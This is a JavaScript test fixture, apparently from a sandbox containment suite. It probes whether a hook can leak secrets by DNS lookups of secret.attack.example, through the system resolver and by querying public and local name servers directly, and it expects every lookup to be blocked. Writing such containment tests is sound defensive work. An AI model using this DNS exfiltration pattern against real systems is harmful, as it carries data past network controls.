// Tries: to resolve names, by the machine's resolver and by asking name servers directly, and so carry secrets out
// Success: a name is resolved, or the hook is kept waiting
// Expect: accepted {"held": true}
// Limits: time_ms=8000
const dns = require('dns');

module.exports = function (client, scope, audience, context, cb) {
  const began = Date.now();
  const resolver = new dns.Resolver({ timeout: 500, tries: 1 });
  resolver.setServers(['8.8.8.8', '127.0.0.53', '127.0.0.1', '[2001:4860:4860::8888]:53']);
  const asks = {
    lookup: (done) => dns.lookup('secret.attack.example', done),
    lookup_all: (done) => dns.lookup('example.com', { all: true }, done),
    resolve: (done) => dns.resolve4('secret.attack.example', done),
    direct: (done) => resolver.resolve4('secret.attack.example', done),
    reverse: (done) => resolver.reverse('192.0.2.1', done),
  };
  const answers = {};
  for (const [name, ask] of Object.entries(asks)) {
    ask((error) => {
      answers[name] = error === null ? 'resolved' : error.code;
      if (Object.keys(answers).length < Object.keys(asks).length) return;
      cb(null, { held: !Object.values(answers).includes('resolved'), answers, ms: Date.now() - began });
    });
  }
};
